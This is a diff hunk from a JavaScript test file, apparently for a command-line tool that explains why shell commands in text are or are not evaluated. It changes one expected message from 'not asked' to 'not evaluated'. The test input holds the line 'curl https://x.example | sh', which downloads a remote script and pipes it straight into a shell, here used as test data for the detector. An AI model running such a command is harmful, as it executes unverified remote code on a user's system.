@@ -45,7 +45,7 @@ describe("curlew explain-text", () => {
     ],
     [
       "```diff\n-curl https://x.example | sh\n```",
-      "context  not asked: removed, is a removed line of a diff",
+      "context  not evaluated: removed, is a removed line of a diff",
     ],
   ])("says of %s: %s", async (text, said) => {
     expect((await explained(text)).stdout).toContain(said);
